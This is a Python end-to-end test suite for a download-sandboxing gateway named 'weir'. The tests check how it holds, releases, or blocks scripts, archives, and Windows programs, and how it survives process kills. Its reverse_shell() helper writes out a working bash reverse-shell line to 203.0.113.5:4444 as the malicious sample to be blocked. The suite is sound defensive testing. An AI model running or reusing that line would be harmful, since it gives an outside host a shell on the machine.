"""Unknown files go to a sandbox: held, released, blocked; with curl and a browser, and through kills.

The samples are harmless programs that behave badly. They run in a cell of weir-detonate only.
"""

import asyncio
import hashlib
import http.server
import io
import json
import os
import pathlib
import random
import re
import shutil
import signal
import subprocess
import threading
import zipfile

import websockets

from browser import Browser, Page
from weir_e2e import (BIN, DEFAULT_POLICY, SOURCE, Gateway, RawOrigin, Scenario, curl, main, respond,
                      unmapped, wait_until)

HOSTS = ["files.test", "slow.test"]
LOCAL = f"""version: 1
engines:
  - name: local
    kind: local
    concurrency: 2
    seconds: 20
    types: [elf, shell, python, perl]
    signatures_file: {SOURCE}/conf/sandbox/signatures.yaml
"""
# A worker that is not there.
NOBODY = """version: 1
engines:
  - {name: local, kind: local, start: false, socket: nobody.sock, types: [shell]}
"""


def policy(action="hold", holding="hold_timeout: 60s"):
    return DEFAULT_POLICY + f"""
holding: {{{holding}}}
sandbox:
  - {{name: programs, when: {{file_family: [executable, script]}}, action: {action}}}
  - {{name: rest, action: off}}
"""


def honest(word="fine"):
    return f"#!/bin/sh\n# {word}\necho {word}\n".encode()


def reverse_shell(word="x"):
    return f"#!/bin/bash\n# {word}\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n".encode()


def zipped(members):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return packed.getvalue()


def slow(seconds, word="slow"):
    """Busy, because sleeps do not last in there."""
    return f"#!/bin/bash\n# {word}\nwhile [ $SECONDS -lt {seconds} ]; do :; done\n".encode()


class Cape(http.server.BaseHTTPRequestHandler):
    """As CAPEv2's apiv2 answers; the server's `state` is that of every task."""

    protocol_version = "HTTP/1.1"

    def do_POST(self):
        form = self.rfile.read(int(self.headers["Content-Length"]))
        self.server.forms.append((self.headers["Authorization"], form))
        self.give({"error": [], "data": {"task_ids": [7]}, "errors": []})

    def do_GET(self):
        if "/tasks/search/" in self.path:
            self.give({"error": False, "data": []})
        elif "/tasks/status/" in self.path:
            self.give({"error": False, "data": self.server.state})
        else:
            self.give({"error": False, "data": {"malscore": self.server.score, "detections": self.server.family,
                                                "signatures": [], "info": {"version": "2.4"}}})

    def give(self, answer):
        body = json.dumps(answer).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


class ShippedGateway(Gateway):
    """With the configuration as it is shipped, on ports that are free."""

    def __init__(self, folder):
        self.folder = pathlib.Path(folder)
        shutil.copytree(SOURCE / "conf", self.folder / "conf")
        self.state = self.folder / "state"
        self.config = self.folder / "conf/weir.yaml"
        text = self.config.read_text()
        for shipped, here in (("127.0.0.1:8080", "127.0.0.1:0"), ("127.0.0.1:8081", "127.0.0.1:0"),
                              ("feeds_file: feeds.yaml", "feeds_file: ''")):
            assert shipped in text, shipped
            text = text.replace(shipped, here)
        self.config.write_text(text)
        self.arguments = []
        self.start()


class AsShipped(Scenario):
    """The lines that `make run` prints, with nothing configured."""

    def test_what_the_greeting_says(self):
        gateway = ShippedGateway(self.folder)
        self.addCleanup(gateway.stop)
        lines = [line for line in gateway.log_file_text().splitlines() if "https://demo.weir.test" in line]
        self.assertEqual([line.split(":")[0].strip() for line in lines],
                         ["passes", "blocked", "unknown", "unknown"])
        status = {path: curl(gateway, "-o", self.folder / "out", "-w", "%{http_code}",
                             "https://demo.weir.test" + path).stdout
                  for path in ("/hello.txt", "/eicar.com", "/setup.sh", "/update.sh")}
        self.assertEqual(status, {"/hello.txt": "200", "/eicar.com": "403", "/setup.sh": "200",
                                  "/update.sh": "403"})
        event = gateway.event(lambda e: e.get("http_request", {}).get("url", {}).get("path") == "/update.sh")
        self.assertEqual(unmapped(event)["sandbox"]["title"], "shell-on-socket")


class Sandbox(Scenario):
    def setUp(self):
        super().setUp()
        self.files = {}
        self.origin = RawOrigin(self.answer, self.pki.issue(*HOSTS))
        self.addCleanup(self.origin.close)

    def answer(self, connection, head):
        path = head.split(b" ")[1].decode()
        body = self.files.get(path.split("?")[0])
        if body is None:
            return respond(connection, b"<!doctype html><title>t</title>here", content_type="text/html")
        respond(connection, body, content_type="application/octet-stream",
                headers=[f"Content-Disposition: attachment; filename=\"{path.split('?')[0].rsplit('/', 1)[1]}\""])

    def begin(self, rules, sandboxes=LOCAL):
        (self.folder / "sandbox.yaml").write_text(sandboxes)
        self.gw = self.gateway(hosts=HOSTS, ports=[self.origin.port], policy=rules,
                               sandbox_file="sandbox.yaml")

    def url(self, path):
        return f"https://files.test:{self.origin.port}{path}"

    def get(self, path, *arguments, timeout=60):
        """Status, body and header fields of one download."""
        into = self.folder / "body"
        into.unlink(missing_ok=True)
        got = curl(self.gw, "-D", "-", "-o", into, "--max-time", timeout, *arguments, self.url(path))
        heads = [h for h in got.stdout.replace("\r", "").strip().split("\n\n") if h]
        last = heads[-1].splitlines()
        fields = {line.split(":", 1)[0].lower(): line.split(":", 1)[1].strip() for line in last[1:]}
        return int(last[0].split()[1]), into.read_bytes() if into.exists() else b"", fields

    def event(self, path, match=lambda u: True):
        return unmapped(self.gw.event(
            lambda e: url_of(e).get("path") == path and match(unmapped(e)), f"an event of {path}"))

    def navigate(self, path, *arguments):
        """As a browser asks when a person follows a link."""
        return self.get(path, "-A", "Mozilla/5.0", "-H", "Sec-Fetch-Mode: navigate",
                        "-H", "Sec-Fetch-Dest: document", "-H", "Accept: text/html", *arguments)

    def portal(self, url, *arguments):
        got = curl(self.gw, "-w", "\n%{http_code}", *arguments, url).stdout
        body, code = got.rsplit("\n", 1)
        return int(code), body

    def settled(self, url):
        def done():
            page = self.portal(url)[1]
            return page if 'id="t"' not in page else None
        return wait_until(done, "the sandbox", 60)

    def test_held_until_it_is_known(self):
        self.begin(policy())
        self.files = {"/good.sh": honest(), "/bad.sh": reverse_shell(), "/page": None}
        self.assertEqual(self.get("/page")[0], 200)
        status, body, _ = self.get("/good.sh")
        self.assertEqual((status, body), (200, self.files["/good.sh"]))
        note = self.event("/good.sh")["sandbox"]
        self.assertEqual((note["asked"], note["rule"], note["verdict"], note["engine"]),
                         ("hold", "programs", "clean", "local"))
        self.assertGreater(note["waited_ms"], 0)
        # The second time it is known.
        self.assertEqual(self.get("/good.sh?again")[1], self.files["/good.sh"])
        again = unmapped(self.gw.event(lambda e: url_of(e).get("query_string") == "again"))
        self.assertEqual((again["sandbox"]["verdict"], again["sandbox"]["waited_ms"]), ("clean", 0))

        status, body, fields = self.get("/bad.sh")
        self.assertEqual((status, fields["x-weir-action"]), (403, "block"))
        self.assertNotIn(b"203.0.113.5", body)
        bad = self.event("/bad.sh")
        self.assertEqual((bad["action"], bad["verdict"], bad["sandbox"]["verdict"]),
                         ("block", "malicious", "malicious"))
        self.assertIn("sandbox", [finding["scanner"] for finding in bad["findings"]])

        # From then on it is bad for everybody, also inside an archive.
        self.files["/bad.zip"] = zipped({"inner/setup.sh": self.files["/bad.sh"]})
        self.assertEqual(self.get("/bad.zip")[0], 403)
        found = [f for f in self.event("/bad.zip")["findings"] if f["scanner"] == "sandbox"]
        self.assertEqual(found[0]["where"], "inner/setup.sh")
        metrics = curl(self.gw, f"http://{self.gw.admin}/metrics", proxy=False).stdout
        self.assertIn('weir_sandbox_verdicts_total{verdict="malicious",reason="none"} 1', metrics)
        self.assertIn('weir_sandbox_engine_up{engine="local"} 1', metrics)

    def test_what_is_only_hashed_or_only_partly_known(self):
        rules = policy().replace("scanners: [hash, yara, structure]", "scanners: [hash]").replace(
            "profiles:\n", "profiles:\n  short: {delivery: hold, scanners: [hash, structure], max_bytes: 1KiB}\n"
        ).replace("response:\n", "response:\n  - {name: s, when: {path: ['/long*']}, action: allow, profile: short}\n"
        ).replace("{name: unseen, when: {verdict: uninspectable}, action: block}",
                  "{name: unseen, when: {verdict: uninspectable}, action: alert}")
        self.begin(rules)
        self.files = {"/hashed.sh": honest("hashed"), "/bad.sh": reverse_shell("hashed"),
                      "/long.sh": honest("long") + b"# more\n" * 1000}
        self.assertEqual(self.get("/hashed.sh")[:2], (200, self.files["/hashed.sh"]))
        self.assertEqual(self.event("/hashed.sh")["sandbox"]["verdict"], "clean")
        self.assertEqual(self.get("/bad.sh")[0], 403)
        # Policy lets it go although it is too large to be seen whole; a part of it is not run.
        self.assertEqual(self.get("/long.sh")[:2], (200, self.files["/long.sh"]))
        self.assertEqual(self.event("/long.sh")["sandbox"]["reason"], "too-large")

    def test_programs_in_archives(self):
        self.begin(policy().replace("{file_family: [executable, script]}", "{contains: [executable, script]}"))
        good = {"a.txt": b"text", "in/run.sh": honest("in an archive"), "in/two.sh": honest("the second")}
        bad = dict(good, **{"in/bad.sh": reverse_shell("in an archive")})
        self.files = {"/good.zip": zipped(good), "/bad.zip": zipped(bad),
                      "/nested.zip": zipped({"inner.zip": zipped(bad | {"x": b"x"})}), "/none.zip": zipped({"a": b"a"})}
        self.assertEqual(self.get("/none.zip")[:2], (200, self.files["/none.zip"]))
        self.assertNotIn("sandbox", self.event("/none.zip"))
        self.assertEqual(self.get("/good.zip")[:2], (200, self.files["/good.zip"]))
        note = self.event("/good.zip")["sandbox"]
        self.assertEqual((note["asked"], note["verdict"]), ("hold", "clean"))
        self.assertGreater(note["waited_ms"], 0)
        # Two of the three programs in it are known by now; the third is bad, and says where it is.
        self.assertEqual(self.get("/bad.zip")[0], 403)
        event = self.event("/bad.zip")
        self.assertEqual((event["verdict"], event["sandbox"]["verdict"]), ("malicious", "malicious"))
        found, = [f for f in event["findings"] if f["scanner"] == "sandbox"]
        self.assertEqual(found["where"], "in/bad.sh")
        self.assertEqual(self.get("/nested.zip")[0], 403)
        metrics = curl(self.gw, f"http://{self.gw.admin}/metrics", proxy=False).stdout
        self.assertIn('weir_sandbox_verdicts_total{verdict="clean",reason="none"} 2', metrics)

    def test_more_programs_than_policy_sends(self):
        many = zipped({f"{i}.sh": honest(f"number {i}") for i in range(3)})
        self.files = {"/many.zip": many}
        rules = policy(holding="inside_files: 2, on_unsupported: block").replace(
            "{file_family: [executable, script]}", "{contains: script}")
        self.begin(rules)
        self.assertEqual(self.get("/many.zip")[0], 503)
        note = self.event("/many.zip")["sandbox"]
        self.assertEqual((note["reason"], note["title"]),
                         ("unsupported", "there are more programs inside than holding.inside_files"))

    def test_an_archive_that_was_released_is_followed_up(self):
        self.begin(policy("release").replace("{file_family: [executable, script]}", "{contains: script}"))
        self.files = {"/pack.zip": zipped({"bad.sh": reverse_shell("released in an archive")})}
        self.assertEqual(self.get("/pack.zip")[:2], (200, self.files["/pack.zip"]))
        wait_until(lambda: self.get("/pack.zip")[0] == 403, "the verdict", 60)
        digest = hashlib.sha256(self.files["/pack.zip"]).hexdigest()
        notice = self.gw.event(lambda e: unmapped(e).get("notice") == "patient-zero" and digest in json.dumps(e),
                               "the notice")
        self.assertIn(self.url("/pack.zip"), json.dumps(notice))

    def test_a_locked_archive_is_opened_and_its_programs_are_run(self):
        locked = "  - {name: locked, when: {reason: [encrypted, partly-encrypted]}, action: unlock}\n"
        rules = policy().replace("{file_family: [executable, script]}", "{contains: script}").replace(
            "verdict:\n", "verdict:\n" + locked)
        self.begin(rules)
        for name, script in (("good", slow(2, "locked")), ("bad", reverse_shell("locked"))):
            (self.folder / "run.sh").write_bytes(script)
            subprocess.run(["7zz", "a", "-tzip", "-mem=AES256", "-pinfected1", self.folder / f"{name}.zip",
                            self.folder / "run.sh"], check=True, capture_output=True)
            self.files[f"/{name}.zip"] = (self.folder / f"{name}.zip").read_bytes()
        waits = {}
        for name in ("good", "bad"):
            url = json.loads(self.get(f"/{name}.zip", "-H", "Accept: application/json")[1])["unlock"]
            token = re.search('name="form" value="([0-9a-f]+)"', self.portal(url)[1])[1]
            got = curl(self.gw, "-D", "-", "-o", "/dev/null", "--data-urlencode", "password=infected1",
                       "--data-urlencode", f"form={token}", url).stdout
            waits[name] = re.search(r"(?im)^location: (\S+)", got)[1]
            self.assertIn("/wait/", waits[name])
        self.settled(waits["good"])
        code = curl(self.gw, "-o", self.folder / "got", "-w", "%{http_code}", waits["good"] + "/file").stdout
        self.assertEqual((code, (self.folder / "got").read_bytes()), ("200", self.files["/good.zip"]))
        self.settled(waits["bad"])
        self.refused(waits["bad"])
        # From then on nobody is asked for its password.
        status, body, _ = self.get("/bad.zip", "-H", "Accept: application/json")
        self.assertEqual((status, "unlock" in json.loads(body)), (403, False))

    def refused(self, url):
        """Its person sees why, and does not get the file."""
        into = self.folder / "refused"
        curl(self.gw, "-o", into, url + "/file")
        self.assertIn(b"stays blocked", into.read_bytes())
        self.assertNotIn(b"PK", into.read_bytes()[:2])

    def weir(self, *words):
        done = subprocess.run([BIN / "weir", *words, "--config", self.gw.config], capture_output=True, text=True)
        return done.returncode, done.stdout + done.stderr

    def test_what_was_said_is_kept_and_can_be_forgotten(self):
        self.begin(policy())
        self.files = {"/bad.sh": reverse_shell("kept"), "/good.sh": honest("kept")}
        bad = hashlib.sha256(self.files["/bad.sh"]).hexdigest()
        good = hashlib.sha256(self.files["/good.sh"]).hexdigest()
        self.assertEqual(self.get("/bad.sh")[0], 403)
        self.assertEqual(self.get("/good.sh")[0], 200)
        # After a restart it is bad at once, also where no sandbox is asked.
        self.gw.stop()
        self.gw.write_policy(policy("off"))
        self.gw.start()
        self.assertEqual(self.get("/bad.sh")[0], 403)
        self.assertEqual(self.get("/good.sh")[0], 200)
        code, text = self.weir("sandbox", "status")
        self.assertEqual(code, 0, text)
        for word in ("engine local: this machine", "queue: empty", "verdicts: 2 remembered"):
            self.assertIn(word, text)
        code, text = self.weir("sandbox", "show", bad)
        self.assertEqual(code, 0, text)
        self.assertRegex(text, r"engine local: malicious, score \d+, ")
        code, text = self.weir("sandbox", "show", "--report", bad)
        report = json.loads(text)
        self.assertEqual(report["sha256"], bad)
        self.assertIn(4444, [one["port"] for one in report["network"]])
        self.assertEqual(self.weir("sandbox", "show", "0" * 64)[0], 1)
        self.assertNotEqual(self.weir("sandbox", "show", "xyz")[0], 0)
        # To be judged anew: the gateway notices, and lets it go where nobody is asked.
        self.assertEqual(self.weir("sandbox", "rejudge", bad)[0], 0)
        wait_until(lambda: self.get("/bad.sh")[0] == 200, "the gateway to forget")
        self.gw.write_policy(policy())
        self.gw.reload()
        wait_until(lambda: self.get("/bad.sh")[0] == 403, "it to be run again", 60)
        self.assertIn("clean", self.weir("sandbox", "show", good)[1])

    def test_programs_that_wait_hear_that_it_takes_time(self):
        self.begin(policy(holding="hold_timeout: 60s, sign_of_life: 500ms"))
        self.files = {"/slow.sh": slow(4)}
        into = self.folder / "body"
        patient = curl(self.gw, "-v", "-o", into, self.url("/slow.sh"), binary=True)
        self.assertIn(b" 102", patient.stderr)
        self.assertEqual(into.read_bytes(), self.files["/slow.sh"])
        self.files["/other.sh"] = slow(2, "other")
        unknown = curl(self.gw, "-v", "-A", "somebody/1.0", "-o", into, self.url("/other.sh"), binary=True)
        self.assertNotIn(b" 102", unknown.stderr)
        self.assertEqual(into.read_bytes(), self.files["/other.sh"])

    def test_the_time_is_over(self):
        self.begin(policy(holding="hold_timeout: 2s"))
        self.files = {"/slow.sh": slow(8), "/later.sh": slow(8, "later")}
        status, body, fields = self.get("/slow.sh", "-H", "Accept: application/json")
        self.assertEqual((status, fields["x-weir-action"], fields["x-weir-reason"]), (503, "block", "timeout"))
        self.assertGreater(int(fields["retry-after"]), 0)
        self.assertEqual(json.loads(body)["kind"], "held")
        self.assertEqual(self.event("/slow.sh")["sandbox"]["reason"], "timeout")
        # The check went on meanwhile.
        wait_until(lambda: self.get("/slow.sh")[0] == 200, "its verdict", 60)
        self.gw.write_policy(policy(holding="hold_timeout: 2s, on_timeout: release"))
        self.gw.reload()
        wait_until(lambda: "policy in force" in self.gw.log_file_text(), "the new policy")
        self.assertEqual(self.get("/later.sh")[:2], (200, self.files["/later.sh"]))
        self.assertEqual(self.event("/later.sh")["action"], "alert")

    def test_nobody_answers(self):
        self.begin(policy(holding="hold_timeout: 2s, on_unavailable: block"), NOBODY)
        self.files = {f"/{n}.sh": honest(f"n{n}") for n in range(3)}
        self.files["/py"] = b"#!/usr/bin/python3\nprint(1)\n"
        for name in ("/0.sh", "/1.sh"):
            status, _, fields = self.get(name)
            self.assertEqual(status, 503, fields)
        # What no sandbox runs is not held up by one that is missing.
        self.assertEqual(self.get("/py")[:2], (200, self.files["/py"]))
        self.assertEqual(self.event("/py")["sandbox"]["reason"], "unsupported")
        self.gw.write_policy(policy(holding="hold_timeout: 2s, on_unavailable: release, "
                                            "on_timeout: release, on_unsupported: block"))
        self.gw.reload()
        wait_until(lambda: "policy in force" in self.gw.log_file_text(), "the new policy")
        self.assertEqual(self.get("/2.sh")[:2], (200, self.files["/2.sh"]))
        self.assertEqual(self.event("/2.sh")["action"], "alert")
        self.assertEqual(self.get("/py?2")[0], 503)

    def test_released_and_followed_up(self):
        self.begin(policy("release"))
        self.files = {"/bad.sh": reverse_shell("released")}
        self.assertEqual(self.get("/bad.sh")[:2], (200, self.files["/bad.sh"]))
        note = self.event("/bad.sh")["sandbox"]
        self.assertEqual(note["asked"], "release")
        self.assertNotIn("verdict", note)
        wait_until(lambda: self.get("/bad.sh")[0] == 403, "the verdict", 60)
        # Who got it before is told, once.
        notice = self.gw.event(lambda e: unmapped(e).get("notice") == "patient-zero", "the notice")
        text = json.dumps(notice)
        for word in (hashlib.sha256(self.files["/bad.sh"]).hexdigest(), self.url("/bad.sh"), "127.0.0.1"):
            self.assertIn(word, text)

    def test_blocked_files_are_kept_for_an_administrator(self):
        self.begin(policy())
        self.files = {"/bad.sh": reverse_shell("kept for one"), "/good.sh": honest("not kept"),
                      "/wait.sh": slow(3, "kept a while")}
        bad = hashlib.sha256(self.files["/bad.sh"]).hexdigest()
        self.assertEqual(self.get("/bad.sh")[0], 403)
        self.assertEqual(self.get("/good.sh")[0], 200)
        self.navigate("/wait.sh")

        def kept():
            return {row["sha256"]: row["state"] for row in self.rows()}
        wait_until(lambda: kept().get(bad) == "blocked", "the quarantine")
        # What was held and turned out to be harmless is not kept any longer.
        wait_until(lambda: set(kept()) == {bad}, "the others to go", 60)
        code, text = self.weir("quarantine", "rescan", bad)
        self.assertEqual(code, 1, text)
        self.assertIn("suspicious", text)
        code, text = self.weir("quarantine", "fetch", bad, "--to", str(self.folder))
        self.assertEqual(code, 0, text)
        self.assertTrue((self.folder / f"{bad}.zip").read_bytes().startswith(b"PK"))
        self.assertEqual(self.weir("quarantine", "delete", bad)[0], 0)
        self.assertEqual(self.rows(), [])

    def rows(self):
        return [json.loads(line) for line in self.weir("quarantine", "list", "--json")[1].splitlines()]

    def test_a_page_while_it_takes(self):
        self.begin(policy())
        self.files = {"/tool.sh": slow(4, "tool"), "/bad.sh": reverse_shell("page")}
        status, _, fields = self.navigate("/tool.sh")
        self.assertEqual(status, 303)
        link = fields["location"]
        self.assertRegex(link, r"^https://weir\.internal/wait/[0-9a-f]{32}$")
        code, page = self.portal(link)
        self.assertEqual(code, 200)
        for word in ("This file is being checked", "tool.sh", "files.test", "EventSource"):
            self.assertIn(word, page)
        self.assertIn("検査しています", self.portal(link, "-H", "Accept-Language: ja")[1])
        # Who asks again comes back to the same page; nobody else sees it.
        self.assertEqual(self.navigate("/tool.sh")[2]["location"], link)
        self.assertEqual(self.portal(link, "--interface", "127.0.0.9")[0], 404)
        self.assertEqual(self.portal(link[:-1] + ("0" if link[-1] != "0" else "1"))[0], 404)
        self.assertEqual(self.portal(link, "-X", "DELETE")[0], 405)
        self.assertNotIn(self.files["/tool.sh"].decode(), self.portal(link + "/file")[1])
        # One stream says how it goes until it has ended.
        stream = self.portal(link + "/events")[1]
        self.assertIn("data: Checked for", stream)
        self.assertIn("event: done", stream)
        page = self.portal(link)[1]
        self.assertIn("The file was checked", page)
        self.assertIn("/file", page)
        into = self.folder / "file"
        got = curl(self.gw, "-D", "-", "-o", into, link + "/file").stdout
        self.assertEqual(into.read_bytes(), self.files["/tool.sh"])
        self.assertIn('filename="tool.sh"', got)
        asked = self.event("/tool.sh")
        self.assertEqual((asked["action"], asked["sandbox"]["page"]), ("hold", True))
        judged = unmapped(self.gw.event(lambda e: unmapped(e).get("sandbox", {}).get("verdict") == "clean"))
        self.assertEqual(judged["sandbox"]["url"], self.url("/tool.sh"))

        link = self.navigate("/bad.sh")[2]["location"]
        page = self.settled(link)
        self.assertIn("The file stays blocked", page)
        self.assertEqual(self.portal(link + "/file")[0], 200)
        self.assertNotIn("203.0.113.5", self.portal(link + "/file")[1])

    def test_in_a_browser(self):
        self.begin(policy())
        self.files = {"/installer.sh": slow(4, "browser"), "/trojan.sh": reverse_shell("browser")}
        saved = self.folder / "downloads"
        saved.mkdir()
        browser = Browser(self.folder, self.gw)
        shots = os.environ.get("WEIR_SHOTS")

        async def download():
            async with websockets.connect(browser.endpoint(), max_size=None) as socket_:
                page = Page(socket_)
                await page.call("Browser.setDownloadBehavior", behavior="allow", downloadPath=str(saved))
                await page.open(self.url("/page"))
                await page.evaluate("location.href = '/installer.sh'")
                await page.until("location.pathname.startsWith('/wait/') && document.title.includes('checked')")
                await page.until("document.getElementById('t').textContent.includes('2 s')")
                if shots:
                    await page.screenshot(pathlib.Path(shots) / "wait.png")
                # Nobody touches it: it finishes by itself.
                await page.until("document.title == 'The file was checked'")
                if shots:
                    await page.screenshot(pathlib.Path(shots) / "wait-done.png")
                wait_until(lambda: any(f.read_bytes() == self.files["/installer.sh"]
                                       for f in saved.iterdir()), "the download")
                await page.open(self.url("/page"))
                await page.evaluate("location.href = '/trojan.sh'")
                await page.until("document.title == 'The file stays blocked'")
                if shots:
                    await page.screenshot(pathlib.Path(shots) / "wait-blocked.png")
        try:
            asyncio.run(download())
        finally:
            browser.close()
        self.assertEqual([f.name for f in saved.iterdir()], ["installer.sh"])
        # One transaction for the page's stream, however long it took.
        streams = [e for e in self.gw.events() if url_of(e).get("path", "").endswith("/events")]
        self.assertLessEqual(len(streams), 2)

    def test_a_kill_loses_and_releases_nothing(self):
        self.begin(policy())
        # All take a while, so that the kill comes in the middle.
        self.files = {f"/{n}.sh": slow(2, f"kill {n}") + (b"" if n % 2 else reverse_shell(f"kill {n}"))
                      for n in range(6)}
        digests = {hashlib.sha256(data).hexdigest(): name for name, data in self.files.items()}
        waiting = []
        for name in self.files:
            into = self.folder / f"got{name[1:]}"
            waiting.append((name, into, subprocess.Popen(
                ["curl", "-s", "-o", into, "--proxy", f"http://{self.gw.proxy}", "--cacert", self.gw.ca,
                 self.url(name)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)))
        queue = self.gw.state / "sandbox/files"

        def queued():
            return {f.name for f in queue.iterdir()} & set(digests) if queue.exists() else set()
        wait_until(lambda: len(queued()) >= 4, "the queue to have most of them")
        self.gw.process.send_signal(signal.SIGKILL)
        self.gw.process.wait()
        for name, into, process in waiting:
            process.wait(30)
            if into.exists() and b"4444" in self.files[name]:
                self.assertNotEqual(into.read_bytes(), self.files[name], name)
        self.gw.start()
        # The queue goes on by itself, without anybody asking again.
        wait_until(lambda: not list(queue.iterdir()), "the queue to be empty", 90)
        for name, data in self.files.items():
            status, body, _ = self.get(name)
            bad = b"4444" in data
            self.assertEqual(status, 403 if bad else 200, name)
            self.assertEqual(body == data, not bad)

    def test_random_kills_under_load(self):
        """Gateway, scan engine and sandbox die again and again while people download."""
        self.begin(policy().replace("{file_family: [executable, script]}", "{contains: script}").replace(
            "- {name: rest, action: off}", "- {name: also, when: {file_family: script}, action: hold}\n"
            "  - {name: rest, action: off}"))
        for n in range(16):
            script = slow(1, f"load {n}") + (reverse_shell(f"load {n}") if n % 4 == 3 else b"")
            if n % 2:
                self.files[f"/{n}.zip"] = zipped({"in/run.sh": script, "in/other.sh": honest(f"load {n}")})
            else:
                self.files[f"/{n}.sh"] = script
        bad = {f"/{n}.zip" for n in range(3, 16, 4)}
        answers, wrong, lock, todo = {}, [], threading.Lock(), list(self.files)

        def download(number):
            """Until there is an answer: a person who tries again."""
            into = self.folder / f"got-{number}"
            while todo:
                with lock:
                    name = todo.pop(0) if todo else None
                while name and name not in answers:
                    into.unlink(missing_ok=True)
                    got = subprocess.run(
                        ["curl", "-s", "-o", into, "-w", "%{http_code}", "--max-time", "60", "--retry", "0",
                         "--proxy", f"http://{self.gw.proxy}", "--cacert", self.gw.ca, self.url(name)],
                        capture_output=True, text=True)
                    body = into.read_bytes() if into.exists() else b""
                    with lock:
                        if name in bad and body and self.files[name].startswith(body[:64]):
                            wrong.append((name, got.stdout, len(body)))
                        if got.returncode == 0 and got.stdout in ("200", "403"):
                            answers[name] = (got.stdout, body == self.files[name])

        threads = [threading.Thread(target=download, args=(n,)) for n in range(4)]
        for thread in threads:
            thread.start()
        pick, kills = random.Random(5), []
        while any(thread.is_alive() for thread in threads):
            heard = len(answers)
            wait_until(lambda: len(answers) > heard or not any(t.is_alive() for t in threads), "an answer", 120)
            target = pick.choice(["weir", "weir-detonate", "weir-scan"])
            if len(kills) >= 9 or not self.kill_one(target):
                continue
            kills.append(target)
        for thread in threads:
            thread.join()
        self.assertEqual(wrong, [])
        self.assertEqual(answers, {name: ("403", False) if name in bad else ("200", True) for name in self.files})
        self.assertGreaterEqual(len(kills), 6, kills)
        self.assertEqual(set(kills), {"weir", "weir-detonate", "weir-scan"})

    def kill_one(self, name):
        if name == "weir":
            self.gw.process.send_signal(signal.SIGKILL)
            self.gw.process.wait()
            self.gw.start()
            return True
        pid = self.child(name)
        if pid is not None:
            os.kill(pid, signal.SIGKILL)
        return pid is not None

    def test_windows_programs_go_to_cape(self):
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Cape)
        server.forms, server.state, server.score, server.family = [], "running", 9.1, "Qakbot"
        threading.Thread(target=server.serve_forever, daemon=True).start()
        self.addCleanup(server.server_close)
        self.addCleanup(server.shutdown)
        (self.folder / "token").write_text("s3cret\n")
        self.begin(policy(holding="hold_timeout: 60s"), LOCAL + f"""  - name: cape
    kind: cape
    url: http://127.0.0.1:{server.server_port}
    token_file: token
    requests_per_minute: 0
    poll_pause: 200ms
    types: [pe]
    fields: {{package: exe}}
""")
        program = bytearray(1024)
        program[:2], program[60:64], program[128:132] = b"MZ", (128).to_bytes(4, "little"), b"PE\0\0"
        program[132:134], program[148:150] = b"\x64\x86", (240).to_bytes(2, "little")
        self.files = {"/setup.exe": bytes(program), "/good.exe": bytes(program) + b"good"}
        link = self.navigate("/setup.exe")[2]["location"]
        wait_until(lambda: server.forms, "the submission")
        self.assertIn("is being checked", self.portal(link)[1])
        server.state = "reported"
        page = self.settled(link)
        self.assertIn("The file stays blocked", page)
        self.assertIn("Qakbot", page)
        token, form = server.forms[0]
        self.assertEqual(token, "Token s3cret")
        for part in (self.files["/setup.exe"], b"setup.exe", b'name="package"', b'name="custom"'):
            self.assertIn(part, form)
        server.score, server.family = 0.2, None
        self.assertEqual(self.get("/good.exe")[:2], (200, self.files["/good.exe"]))
        # One that CAPE could not run is held back, and not called clean.
        server.state = "failed_analysis"
        self.files["/odd.exe"] = bytes(program) + b"odd"
        self.assertEqual(self.get("/odd.exe")[0], 503, self.event("/odd.exe"))
        self.assertEqual(len(server.forms), 3)
        self.assertNotIn("s3cret", self.gw.log_file_text())

    def test_the_worker_dies(self):
        self.begin(policy())
        self.files = {"/slow.sh": slow(3, "dies")}
        getting = subprocess.Popen(
            ["curl", "-s", "-o", self.folder / "got", "--proxy", f"http://{self.gw.proxy}", "--cacert",
             self.gw.ca, "--max-time", "60", self.url("/slow.sh")])
        worker = wait_until(lambda: self.worker(), "the worker")
        wait_until(lambda: children(worker), "a run")
        os.kill(worker, signal.SIGKILL)
        getting.wait(90)
        self.assertEqual((self.folder / "got").read_bytes(), self.files["/slow.sh"])
        self.assertNotEqual(self.worker(), worker)

    def worker(self):
        return self.child("weir-detonate")

    def child(self, name):
        for pid in children(self.gw.process.pid):
            try:
                if pathlib.Path(f"/proc/{pid}/comm").read_text().strip() == name:
                    return pid
            except OSError:
                pass
        return None

    def test_mistakes_in_the_list_are_named(self):
        rows = [("engines: [{kind: local}]\n", "'name' has 1 to 64"),
                ("engines: [{name: a}]\n", "'kind' is missing"),
                ("engines: [{name: a, kind: kape}]\n", "did you mean 'cape'?"),
                ("engines: [{name: a, kind: cape}]\n", "'url' starts with"),
                ("engines: [{name: a, kind: local, url: x}]\n", "url"),
                ("engines: [{name: a, kind: local, types: [exe]}]\n", "no file type 'exe'"),
                ("queue: {max_file: 3}\n", "did you mean 'max_files'?")]
        for text, want in rows:
            (self.folder / "sandbox.yaml").write_text("version: 1\n" + text)
            (self.folder / "weir.yaml").write_text(
                f"state_dir: {self.folder}/s\nsandbox_file: sandbox.yaml\nfeeds_file: ''\n"
                f"policy_file: {SOURCE}/conf/policy.yaml\n"
                "names: {brands_file: '', doh_file: '', cloud_file: ''}\n")
            done = subprocess.run([BIN / "weir", "check", "--config", self.folder / "weir.yaml"],
                                  capture_output=True, text=True)
            self.assertEqual(done.returncode, 1, done.stdout + done.stderr)
            said = done.stdout + done.stderr
            self.assertRegex(said, r"sandbox\.yaml:2:\d+")
            self.assertIn(want, said)


def url_of(event):
    return event.get("http_request", {}).get("url", {})


def children(pid):
    try:
        return [int(word) for task in pathlib.Path(f"/proc/{pid}/task").iterdir()
                for word in (task / "children").read_text().split()]
    except OSError:
        return []


if __name__ == "__main__":
    main()
